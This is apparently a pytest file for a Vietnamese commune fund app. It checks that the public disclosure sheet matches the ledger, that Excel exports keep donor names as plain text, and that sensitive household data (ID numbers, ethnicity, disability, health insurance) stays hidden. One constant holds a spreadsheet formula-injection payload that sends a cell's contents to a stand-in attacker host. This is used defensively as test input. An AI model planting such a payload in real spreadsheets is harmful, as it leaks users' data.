"""The public disclosure sheet against the ledger, its Excel file (no text cell ever a
formula), and what the Front sees of a case: never CCCD, ethnicity, disability or health."""
import io
from datetime import date

from openpyxl import load_workbook
from sqlalchemy import select

from app.funds import disclosure, services
from app.funds.models import FundEntry
from app.households.models import Household, Member
from tests.conftest import page_text
from tests.funds import helpers as h

START, END = date(2025, 2, 1), date(2025, 3, 31)
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def _ledger(world, db):
    """Entries before, inside and after the period, of every kind and state."""
    fund, province = h.fund(world, "C1"), h.fund(world, "P1")
    h.receipt(fund, 5_000_000, day=date(2025, 1, 5))
    h.spend(fund, 1_000_000, day=date(2025, 1, 20))
    h.receipt(fund, 3_000_000, day=date(2025, 2, 3), donor=EVIL, kind="business")
    h.receipt(fund, 2_000_000, day=date(2025, 2, 4), donor="+Sở Y tế", kind="agency")
    wrong = h.receipt(fund, 1_000_000, day=date(2025, 2, 5), donor="@Nguyễn Văn Bình",
                      kind="individual")
    services.reverse_entry(wrong, "Ghi trùng phiếu thu", None, entry_date=date(2025, 2, 6))
    h.receipt(province, 9_000_000, day=date(2025, 1, 2))
    services.transfer(province, {"to_fund_id": fund.id, "entry_date": date(2025, 2, 10),
                                 "amount": 2_500_000, "document_number": "CV-3"}, None)
    paid = h.disbursement(h.support(world, value=2_000_000, day=date(2025, 3, 1)))
    services.post_disbursement(paid, None, reason=h.REASON)
    paid2 = h.disbursement(h.support(world, value=700_000, type_code="tet_gift",
                                     day=date(2025, 3, 2)))
    services.post_disbursement(paid2, None, reason=h.REASON)
    h.disbursement(h.support(world, value=400_000, day=date(2025, 3, 3)))   # pending
    queried = h.disbursement(h.support(world, value=300_000, day=date(2025, 3, 4)))
    services.query_disbursement(queried, "Thiếu chứng từ", None)
    h.spend(fund, 800_000, day=date(2025, 3, 5), purpose="Hỗ trợ đột xuất sau bão")
    services.transfer(fund, {"to_fund_id": province.id, "entry_date": date(2025, 3, 20),
                             "amount": 500_000, "document_number": "CV-9"}, None)
    h.receipt(fund, 7_000_000, day=date(2025, 4, 10))
    db.session.commit()
    return fund


def _expected(fund, db):
    """The period's figures computed straight from the entries, another way."""
    rows = db.session.scalars(select(FundEntry).where(FundEntry.fund_id == fund.id,
                                                      FundEntry.state == "posted")).all()
    before = sum(e.signed_amount for e in rows if e.entry_date < START)
    inside = [e for e in rows if START <= e.entry_date <= END]
    receipts = sum(e.signed_amount for e in inside if e.kind in ("receipt", "transfer_in"))
    spending = -sum(e.signed_amount for e in inside if e.kind == "disbursement")
    out = -sum(e.signed_amount for e in inside if e.kind == "transfer_out")
    return before, receipts, spending, out


def test_sheet_sums_agree_with_the_ledger(world, db):
    fund = _ledger(world, db)
    sheet = disclosure.build(fund, START, END)
    opening, receipts, spending, out = _expected(fund, db)
    assert (sheet.opening, sheet.receipts_total, sheet.spending_total, sheet.transfers_out) == (
        opening, receipts, spending, out) == (4_000_000, 7_500_000, 3_500_000, 500_000)
    assert sheet.closing == services.balance(fund.id, until=END) == 7_500_000
    assert sheet.balanced
    assert dict(sheet.receipts_by_kind) == {"Cơ quan, đơn vị": 2_000_000, "Doanh nghiệp": 3_000_000,
                                            "Cá nhân": 0, "Chuyển từ cấp khác": 2_500_000}
    by_type = {label: (n, amount) for label, n, amount in sheet.spending_by_type}
    assert by_type == {"Giống vật nuôi": (1, 2_000_000), "Quà Tết": (1, 700_000),
                       "Chi không theo hộ (có chứng từ)": (1, 800_000)}
    by_hamlet = {label: (n, amount) for label, n, amount in sheet.spending_by_hamlet}
    assert by_hamlet == {"Thôn C1": (2, 2_700_000), "Chi không theo hộ (có chứng từ)": (1, 800_000)}
    assert sum(a for _t, _h, _n, a in sheet.spending_detail) == spending
    assert [amount for _e, amount in sheet.contributions] == [3_000_000, 2_000_000, 1_000_000,
                                                              -1_000_000, 2_500_000]


def test_sheet_page_and_excel(login_as, world, db):
    fund = _ledger(world, db)
    client = login_as("massorg1")
    page = client.get(f"/funds/{fund.id}/disclosure?from=01/02/2025&to=31/03/2025")
    html = page.get_data(as_text=True)
    assert page.status_code == 200
    for cell_id, value in (("opening", "4.000.000"), ("receipts-total", "7.500.000"),
                           ("spending-total", "3.500.000"), ("transfers-out", "500.000")):
        assert f'id="{cell_id}">{value}<' in html
    assert 'id="closing"><strong>7.500.000</strong>' in html
    assert "data-print" in html and "Số liệu không cân đối" not in html

    response = client.get(f"/funds/{fund.id}/disclosure.xlsx?from=01/02/2025&to=31/03/2025")
    assert response.status_code == 200
    assert response.mimetype.endswith("spreadsheetml.sheet")
    wb = load_workbook(io.BytesIO(response.get_data()))
    summary = {ws_row[0]: ws_row[2] for ws_row in wb["Tổng hợp"].iter_rows(values_only=True)
               if ws_row and ws_row[0]}
    assert summary["I. Số dư đầu kỳ"] == 4_000_000 and summary["V. Số dư cuối kỳ"] == 7_500_000
    assert summary["II. Thu trong kỳ"] == 7_500_000 and summary["III. Chi trong kỳ"] == 3_500_000
    donors = wb["Danh sách đóng góp"]
    cells = [row[1] for row in donors.iter_rows() if row[1].value in (EVIL, "+Sở Y tế", "@Nguyễn Văn Bình")]
    assert len(cells) == 4                      # the reversed receipt is listed twice
    for cell in cells:
        assert cell.data_type == "s" and cell.quotePrefix   # text, and stays text when edited
    assert not any(c.data_type == "f" for ws in wb for row in ws.iter_rows() for c in row)


CANARIES = {"id_number": "079123456789", "disability_note": "KHUYETTAT-CANARY",
            "health_insurance_number": "HS4799988877766"}


def test_front_never_sees_sensitive_fields(login_as, world, db):
    fund = _ledger(world, db)
    household = db.session.get(Household, world.households["C1"])
    household.is_ethnic_minority = True
    for member in db.session.scalars(select(Member).where(Member.household_id == household.id)):
        member.ethnicity_code = "8"             # H'Mông
        member.has_disability = True
        for key, value in CANARIES.items():
            setattr(member, key, value)
    db.session.commit()
    pending = db.session.scalar(select(FundEntry).where(FundEntry.state == "pending"))
    client = login_as("massorg1")
    pages = [client.get("/funds/"), client.get("/funds/review?from=01/01/2025&state="),
             client.get(f"/funds/entries/{pending.id}"), client.get(f"/funds/{fund.id}"),
             client.get(f"/funds/{fund.id}/disclosure?from=01/01/2025&to=31/12/2025"),
             client.form(f"/funds/entries/{pending.id}/query", {"comment": "Hỏi thêm"}, htmx=True,
                         headers={"HX-Target": f"entry-{pending.id}"})]
    assert "HH-C1" in pages[1].get_data(as_text=True)          # the case is there …
    for response in pages:
        assert response.status_code == 200
        html = response.get_data(as_text=True)
        for value in CANARIES.values():                        # … its sensitive fields are not
            assert value not in html and value[-4:] + "<" not in html
        for word in ("Mông", "Dân tộc", "DTTS", "khuyết tật", "Khuyết tật", "BHYT", "CCCD"):
            assert word not in html, word
    xlsx = client.get(f"/funds/{fund.id}/disclosure.xlsx?from=01/01/2025&to=31/12/2025")
    text = " ".join(str(c.value) for ws in load_workbook(io.BytesIO(xlsx.get_data()))
                    for row in ws.iter_rows() for c in row if c.value is not None)
    assert "HH-C1" not in text and "Nguyễn Văn An" not in text
    assert not any(value in text for value in CANARIES.values())
